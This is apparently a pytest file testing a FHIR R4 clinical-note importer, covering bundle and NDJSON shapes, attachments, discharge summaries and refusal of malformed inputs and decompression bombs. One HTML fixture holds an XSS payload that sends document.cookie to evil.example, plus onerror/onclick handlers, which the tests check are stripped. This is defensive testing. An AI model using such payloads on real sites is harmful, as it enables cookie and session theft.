"""FHIR R4 input: the shipped sample export reads back as the tidy sample; bundles and Bulk Data NDJSON in the
shapes EHRs write (US Core note types, base64 attachments, a Binary by reference, HTML with hostile markup, an
undated note, a Composition discharge summary); malformed and hostile variants get a report and nothing imported.
"""
from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import pytest

from engine.data.loading import load_paths
from engine.data.mapping import LoadOptions
from engine.data.validation import DatasetInvalid
from conftest import FORMATS, SAMPLE

FHIR = FORMATS / "fhir"
SUMMARY = LoadOptions(summary_types=("llm-summary",))


def b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def doc(rid: str, patient: str, text: str | None = None, *, date: str | None = None, loinc=("11506-3", "Progress note"),
        content_type="text/plain", url: str | None = None, encounter: str | None = None, author: str | None = None,
        type_code: tuple[str, str] | None = None, **extra) -> dict:
    att = {"contentType": content_type}
    if url:
        att["url"] = url
    else:
        att["data"] = b64(text or "")
    res = {"resourceType": "DocumentReference", "id": rid, "status": "current",
           "type": {"coding": [{"system": "http://loinc.org", "code": loinc[0], "display": loinc[1]}]}
           if type_code is None else {"coding": [{"system": "urn:local:doc-type", "code": type_code[0],
                                                  "display": type_code[1]}]},
           "category": [{"coding": [{"system": "http://hl7.org/fhir/us/core/CodeSystem/"
                                               "us-core-documentreference-category", "code": "clinical-note"}]}],
           "subject": {"reference": f"Patient/{patient}"}, "content": [{"attachment": att}]}
    if date:
        res["date"] = date
    if encounter:
        res["context"] = {"encounter": [{"reference": f"Encounter/{encounter}"}]}
    if author:
        res["author"] = [{"reference": f"PractitionerRole/{author}"}]
    res.update(extra)
    return res


def bundle(*resources: dict, btype: str = "collection", urn: bool = False) -> dict:
    entries = []
    for i, r in enumerate(resources):
        e = {"resource": r}
        e["fullUrl"] = f"urn:uuid:00000000-0000-0000-0000-{i:012d}" if urn else \
            f"https://ehr.example.org/fhir/{r['resourceType']}/{r.get('id', i)}"
        if btype == "transaction":
            e["request"] = {"method": "POST", "url": r["resourceType"]}
        entries.append(e)
    return {"resourceType": "Bundle", "type": btype, "entry": entries}


def write_json(path: Path, obj) -> Path:
    path.write_text(json.dumps(obj), encoding="utf-8")
    return path


def write_ndjson(folder: Path, resources: list[dict]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    by_type: dict[str, list[dict]] = {}
    for r in resources:
        by_type.setdefault(r["resourceType"], []).append(r)
    for t, rs in by_type.items():
        (folder / f"{t}.ndjson").write_text("".join(json.dumps(r) + "\n" for r in rs), encoding="utf-8")
    return folder


def refused(paths, opts=SUMMARY) -> list:
    with pytest.raises(DatasetInvalid) as exc:
        load_paths([str(p) for p in paths], opts)
    return [i for i in exc.value.report.issues if i.severity == "error"]


def ehr_resources() -> list[dict]:
    """One patient's notes as an EHR exports them."""
    hostile = ("<html><head><title>t</title><style>p{color:red}</style><script>fetch('https://evil.example/'+"
               "document.cookie)</script></head><body><h1>Consult</h1><p onclick=\"alert(1)\">Echo: EF 35%&nbsp;"
               "with <b>moderate</b> MR.</p><img src=x onerror=alert(2)><ul><li>Start carvedilol</li>"
               "<li>Repeat echo in 3 months</li></ul><iframe src=\"https://evil.example\">hidden text</iframe>"
               "</body></html>")
    return [
        {"resourceType": "Patient", "id": "p1"},
        {"resourceType": "PractitionerRole", "id": "role-card",
         "specialty": [{"coding": [{"system": "http://nucc.org/provider-taxonomy", "code": "207RC0000X",
                                    "display": "Cardiovascular Disease"}]}]},
        {"resourceType": "Observation", "id": "o1", "status": "final", "code": {"text": "BNP"}},
        {"resourceType": "Condition", "id": "c1", "subject": {"reference": "Patient/p1"}},
        doc("n2", "p1", "Follow-up: dyspnea improved on furosemide.", date="2024-02-10T09:00:00-05:00"),
        doc("n1", "p1", "New patient: 3 weeks of exertional dyspnea, ankle swelling.",
            date="2024-01-09T14:30:00-05:00", loinc=("34117-2", "History and physical note")),
        doc("n3", "p1", content_type="text/html", date="2024-01-20T11:00:00Z", loinc=("11488-4", "Consult note"),
            author="role-card", url=None, text=hostile),
        {"resourceType": "Binary", "id": "b4", "contentType": "text/plain; charset=utf-8",
         "data": b64("Telephone note: patient reports weight up 2 kg.")},
        doc("n4", "p1", url="Binary/b4", date="2024-02-01T08:00:00Z"),
        doc("n5", "p1", "Undated nursing note: education on low-salt diet.", loinc=("34746-8", "Nurse note")),
        doc("pdf1", "p1", "%PDF-1.4 ...", content_type="application/pdf", date="2024-01-21T00:00:00Z"),
        doc("s1", "p1", "Summary: HFrEF (EF 35%) on carvedilol and furosemide; dyspnea improved.",
            type_code=("llm-summary", "LLM-generated summary"),
            context={"practiceSetting": {"text": "Cardiology"}}),
        {"resourceType": "Composition", "id": "dc1", "status": "final", "date": "2024-01-25T16:00:00Z",
         "type": {"coding": [{"system": "http://loinc.org", "code": "18842-5", "display": "Discharge summary"}]},
         "subject": {"reference": "Patient/p1"}, "author": [{"reference": "PractitionerRole/role-card"}],
         "title": "Discharge summary",
         "section": [{"title": "Hospital course", "text": {"status": "generated", "div":
                      "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Diuresed 4 L.</p></div>"}},
                     {"title": "Discharge medications", "text": {"status": "generated", "div":
                      "<div xmlns=\"http://www.w3.org/1999/xhtml\"><ul><li>Carvedilol 3.125 mg BID</li>"
                      "</ul></div>"}}]},
    ]


def test_shipped_fhir_export_reads_back_as_the_tidy_sample():
    tidy, _ = load_paths([SAMPLE / "pdsqi_sample"])
    fhir, report = load_paths([FHIR], SUMMARY)
    assert [c.case_id for c in fhir.cases] == [c.case_id for c in tidy.cases]
    assert fhir.cases == tidy.cases  # notes with their ids, dates, types, author specialties and order
    key = lambda s: s.summary_id  # noqa: E731
    assert sorted(fhir.summaries, key=key) == sorted(tidy.summaries, key=key)
    assert sorted(fhir.ratings, key=repr) == sorted(tidy.ratings, key=repr)
    assert any(n.date for c in fhir.cases for n in c.notes)
    formats = " ".join(report.formats.values())
    assert "FHIR Bulk Data NDJSON" in formats and "56 notes" in formats and "36 summaries" in formats


def test_shipped_fhir_export_gives_the_same_judge_prompts():
    from engine.judge.prompt import build_messages

    tidy, _ = load_paths([SAMPLE / "pdsqi_sample"])
    fhir, _ = load_paths([FHIR], SUMMARY)
    by_id = {s.summary_id: s for s in fhir.summaries}
    for s in tidy.summaries[:12]:
        a = build_messages(tidy.case(s.case_id), s)
        b = build_messages(fhir.case(s.case_id), by_id[s.summary_id])
        assert a == b


def test_cli_imports_the_shipped_export(tmp_path, capsys):
    from engine.cli import main

    ws = tmp_path / "ws.db"
    assert main(["--workspace", str(ws), "import", str(FHIR), "--summary-type", "llm-summary", "--name", "fx"]) == 0
    out = capsys.readouterr().out
    assert "12 cases, 56 notes, 36 summaries" in out


@pytest.mark.parametrize("shape", ["bundle-collection", "bundle-transaction-urn", "bundle-searchset", "bundle-document",
                                   "ndjson"])
def test_ehr_shapes(tmp_path, shape):
    res = ehr_resources()
    if shape == "ndjson":
        path = write_ndjson(tmp_path / "export", res)
    elif shape == "bundle-transaction-urn":
        # references by urn:uuid, as a transaction bundle writes them
        urls = {f"{r['resourceType']}/{r.get('id')}": f"urn:uuid:00000000-0000-0000-0000-{i:012d}"
                for i, r in enumerate(res)}
        text = json.dumps(res)
        for ref, urn in urls.items():
            text = text.replace(f'"{ref}"', f'"{urn}"')
        b = bundle(*json.loads(text), btype="transaction", urn=True)
        path = write_json(tmp_path / "tx.json", b)
    elif shape == "bundle-document":  # a document bundle starts with its Composition
        comp = next(r for r in res if r["resourceType"] == "Composition")
        path = write_json(tmp_path / "doc.json", bundle(comp, *[r for r in res if r is not comp], btype="document"))
    else:
        path = write_json(tmp_path / "bundle.json", bundle(*res, btype=shape.split("-")[1]))
    ds, report = load_paths([path], SUMMARY)
    assert len(ds.cases) == 1
    case = ds.cases[0]
    ids = [n.note_id for n in case.notes]
    assert ids == ["n1", "n3", "dc1", "n4", "n2", "n5"]  # by date; the undated note last; the PDF skipped
    by_id = {n.note_id: n for n in case.notes}
    assert by_id["n1"].note_type == "History and physical note" and by_id["n1"].date == "2024-01-09T14:30:00-05:00"
    assert by_id["n1"].date_iso == "2024-01-09T14:30:00"
    assert by_id["n5"].date is None
    assert by_id["n4"].text == "Telephone note: patient reports weight up 2 kg."
    html = by_id["n3"].text
    assert "Echo: EF 35% with moderate MR." in html and "- Start carvedilol" in html
    for bad in ("script", "fetch", "cookie", "alert", "onclick", "<", "iframe", "color:red"):
        assert bad not in html
    assert html.endswith("- Repeat echo in 3 months\n\nhidden text")  # an iframe's fallback text is text, kept
    assert by_id["n3"].author_specialty == "Cardiovascular Disease"
    assert by_id["dc1"].note_type == "Discharge summary"
    assert by_id["dc1"].text.startswith("Hospital course:\nDiuresed 4 L.\nDischarge medications:\n- Carvedilol")
    assert case.target_specialty == "Cardiology"
    assert [s.summary_id for s in ds.summaries] == ["s1"]
    formats = " ".join(report.formats.values())
    assert "skipped (content application/pdf)" in formats
    assert "ignored Observation" in formats and "ignored Condition" in formats


def test_case_per_encounter(tmp_path):
    res = [{"resourceType": "Patient", "id": "p1"},
           {"resourceType": "Encounter", "id": "e1", "status": "finished",
            "class": {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "IMP"}},
           doc("a", "p1", "Admission one.", date="2024-01-01T00:00:00Z", encounter="e1"),
           doc("b", "p1", "Admission two.", date="2024-03-01T00:00:00Z", encounter="e2")]
    path = write_json(tmp_path / "b.json", bundle(*res))
    ds, _ = load_paths([path], LoadOptions(case_by="encounter", default_specialty="Nephrology"))
    assert {c.case_id: [n.note_id for n in c.notes] for c in ds.cases} == {"e1": ["a"], "e2": ["b"]}
    assert {c.target_specialty for c in ds.cases} == {"Nephrology"}
    errs = refused([write_json(tmp_path / "c.json", bundle(doc("x", "p1", "No encounter.")))],
                   LoadOptions(case_by="encounter"))
    assert any("names no encounter" in e.message and e.field == "entry[0].resource.context.encounter" for e in errs)


def test_superseded_and_replaced_documents_are_skipped(tmp_path):
    res = [doc("old", "p1", "Draft.", date="2024-01-01T00:00:00Z"),
           doc("new", "p1", "Final.", date="2024-01-02T00:00:00Z",
               relatesTo=[{"code": "replaces", "target": {"reference": "DocumentReference/old"}}]),
           dict(doc("err", "p1", "Wrong patient.", date="2024-01-03T00:00:00Z"), status="entered-in-error")]
    ds, report = load_paths([write_json(tmp_path / "b.json", bundle(*res))])
    assert [n.note_id for n in ds.cases[0].notes] == ["new"]
    formats = " ".join(report.formats.values())
    assert "skipped (replaced by a later version)" in formats and "skipped (entered-in-error)" in formats


def test_summaries_from_a_separate_file(tmp_path):
    res = [doc("n1", "p1", "Note one.", date="2024-01-01T00:00:00Z")]
    path = write_json(tmp_path / "b.json", bundle(*res))
    sums = tmp_path / "llm.csv"
    sums.write_text("patient_id,text,generator_model\np1,Summary of p1.,model-x\n", encoding="utf-8")
    ds, _ = load_paths([path], LoadOptions(summaries_file=str(sums)))
    assert [(s.summary_id, s.case_id, s.generator_model) for s in ds.summaries] == [("p1-summary-1", "p1", "model-x")]
    by_note = tmp_path / "by_note.csv"
    by_note.write_text("note_id,text\nn1,Summary.\nnope,Other.\n", encoding="utf-8")
    errs = refused([path], LoadOptions(summaries_file=str(by_note)))
    assert any("note 'nope' is in no case" in e.message and e.row == 2 for e in errs)


# --------------------------------------------------------------------------- malformed and hostile variants

def _variants(tmp_path: Path) -> dict[str, tuple[list[Path], str]]:
    good = doc("n1", "p1", "A note.", date="2024-01-01T00:00:00Z")
    out: dict[str, tuple[list[Path], str]] = {}

    def one(name, resources, expect, ndjson=False):
        if ndjson:
            out[name] = ([write_ndjson(tmp_path / name, resources)], expect)
        else:
            out[name] = ([write_json(tmp_path / f"{name}.json", bundle(*resources))], expect)

    bad_b64 = dict(good, id="n2", content=[{"attachment": {"contentType": "text/plain", "data": "@@not base64@@"}}])
    one("bad-base64", [good, bad_b64], "base64")
    one("missing-binary", [good, doc("n2", "p1", url="Binary/nowhere", date="2024-01-02T00:00:00Z")],
        "not in the export", ndjson=True)
    one("external-url", [doc("n2", "p1", url="https://ehr.example.org/fhir/Binary/9", date="2024-01-02T00:00:00Z")],
        "never fetches")
    one("url-to-patient", [{"resourceType": "Patient", "id": "p1"},
                           doc("n2", "p1", url="Patient/p1", date="2024-01-02T00:00:00Z")], "not a Binary")
    one("reference-loop", [
        doc("a", "p1", "A.", relatesTo=[{"code": "replaces", "target": {"reference": "DocumentReference/b"}}]),
        doc("b", "p1", "B.", relatesTo=[{"code": "replaces", "target": {"reference": "DocumentReference/a"}}])],
        "loop")
    one("bad-date", [dict(good, date="yesterday")], "Instant")
    one("no-subject", [{k: v for k, v in good.items() if k != "subject"}], "names no patient")
    one("not-utf8", [dict(good, content=[{"attachment": {"contentType": "text/plain", "data":
                                                          base64.b64encode(b"caf\xe9").decode()}}])], "not valid utf-8")
    one("no-content", [dict(good, content=[])], "")
    one("empty-text", [doc("n1", "p1", "   ", date="2024-01-01T00:00:00Z")], "empty")
    one("unknown-field", [dict(good, notAField=1)], "n1")
    one("duplicate", [good, good], "appears twice")
    one("only-observations", [{"resourceType": "Observation", "id": "o", "status": "final", "code": {"text": "x"}}],
        "no valid DocumentReference")
    d = tmp_path / "wrong-type"
    d.mkdir()
    (d / "DocumentReference.ndjson").write_text(json.dumps(good) + "\n" + json.dumps(
        {"resourceType": "Patient", "id": "p1"}) + "\n", encoding="utf-8")
    out["wrong-type-in-file"] = ([d], "in a file of DocumentReference")
    d = tmp_path / "cut"
    d.mkdir()
    (d / "DocumentReference.ndjson").write_text(json.dumps(good) + "\n" + json.dumps(good)[:40] + "\n")
    out["truncated-line"] = ([d], "")
    out["history-bundle"] = ([write_json(tmp_path / "h.json", dict(bundle(good), type="history"))], "not read")
    out["entry-not-object"] = ([write_json(tmp_path / "e.json", {"resourceType": "Bundle", "type": "collection",
                                                                 "entry": [good, 7]})], "holds no resource")
    return out


def test_every_malformed_variant_is_reported_and_nothing_is_imported(tmp_path):
    from engine.data.store import Store

    store = Store(tmp_path / "ws.db")
    for name, (paths, expect) in _variants(tmp_path).items():
        errs = refused(paths, LoadOptions())
        assert errs, name
        text = " ".join(f"{e.message} {e.field or ''} {e.hint}" for e in errs)
        assert expect.lower() in text.lower(), (name, text)
        assert all(e.file for e in errs), name
        if name != "only-observations":  # a whole-export problem has no entry to name
            assert any(e.row is not None or e.field for e in errs), name  # names the entry or line, or the field
    assert store.dataset_names() == []


def test_bad_base64_names_entry_and_field(tmp_path):
    good = doc("n1", "p1", "A note.", date="2024-01-01T00:00:00Z")
    bad = dict(good, id="n2", content=[{"attachment": {"contentType": "text/plain", "data": "@@"}}])
    errs = refused([write_json(tmp_path / "b.json", bundle(good, bad))], LoadOptions())
    e = next(e for e in errs if "base64" in (e.message + e.hint).lower())
    assert e.row == 2 and e.field == "entry[1].resource.content[0].attachment.data"


def test_huge_ndjson_line_is_refused_without_reading_it(tmp_path):
    d = tmp_path / "export"
    d.mkdir()
    big = d / "DocumentReference.ndjson"
    with open(big, "wb") as fh:  # a 2 GB line, sparse on disk: refused by its size before a byte is read
        fh.write(b'{"resourceType":"DocumentReference","id":"x","content":[{"attachment":{"data":"')
        fh.truncate(2 * 1024 ** 3)
    errs = refused([d], LoadOptions())
    assert any("over the limit" in e.message and e.file == str(big) for e in errs)


def test_gzipped_ndjson_bomb_is_refused(tmp_path):
    import gzip

    d = tmp_path / "export"
    d.mkdir()
    (d / "DocumentReference.ndjson.gz").write_bytes(gzip.compress(b" " * 3_000_000))
    errs = refused([d], LoadOptions(max_file_mb=1))
    assert any("decompresses to more than the limit" in e.message for e in errs)


def test_questionnaire_is_valid_fhir_and_responses_round_trip(tmp_path):
    from fhir.resources.R4B.questionnaire import Questionnaire

    from engine.data.fhir.export import rating_records, responses_only, write_bulk
    from engine.data.fhir.questionnaire import questionnaire

    q = Questionnaire.model_validate(questionnaire())
    assert len(q.item) == 11 and q.item[0].answerOption
    tidy, _ = load_paths([SAMPLE / "pdsqi_sample"])
    out = write_bulk(responses_only(list(rating_records(tidy))), tmp_path / "qr")
    assert out.files["QuestionnaireResponse.ndjson"] > 0
    base = load_paths([SAMPLE / "pdsqi_sample" / n for n in ("cases.csv", "notes.csv", "summaries.csv")])[0]
    back, _ = load_paths([out.folder], LoadOptions(), context=base)
    assert sorted(back.ratings, key=repr) == sorted(tidy.ratings, key=repr)


def test_judge_responses_are_kept_as_records_not_ratings(tmp_path):
    from engine.data.fhir.export import responses_only, write_bulk
    from engine.data.fhir.questionnaire import ResponseRecord

    base = load_paths([SAMPLE / "pdsqi_sample" / n for n in ("cases.csv", "notes.csv", "summaries.csv")])[0]
    recs = [ResponseRecord("card-01-s1", "abc123", "judge", (("accurate", 4.0), ("thorough", 3.5)), None, "qwen",
                           json.dumps({"prompt_version": "v1"})),
            ResponseRecord("card-01-s1", "R9", "rater", (("accurate", 4.0),), "senior")]
    out = write_bulk(responses_only(recs), tmp_path / "qr")
    back, report = load_paths([out.folder], LoadOptions(), context=base)
    assert [(r.rater_id, r.item, r.value, r.rater_group) for r in back.ratings] == [("R9", "accurate", 4.0, "senior")]
    assert "1 judge results (kept as records, not ratings)" in " ".join(report.formats.values())
    line = (out.folder / "QuestionnaireResponse.ndjson").read_text().splitlines()[0]
    assert '"valueDecimal":3.5' in line and "prompt_version" in line


def test_response_claiming_a_reserved_rater_is_refused(tmp_path):
    from engine.data.fhir.export import responses_only, write_bulk
    from engine.data.fhir.questionnaire import ResponseRecord

    base = load_paths([SAMPLE / "pdsqi_sample" / n for n in ("cases.csv", "notes.csv", "summaries.csv")])[0]
    out = write_bulk(responses_only([ResponseRecord("card-01-s1", "R1", "rater", (("accurate", 4.0),), "llm")]),
                     tmp_path / "qr")
    with pytest.raises(DatasetInvalid) as exc:
        load_paths([out.folder], LoadOptions(), context=base)
    assert any("reserved" in i.message for i in exc.value.report.issues)
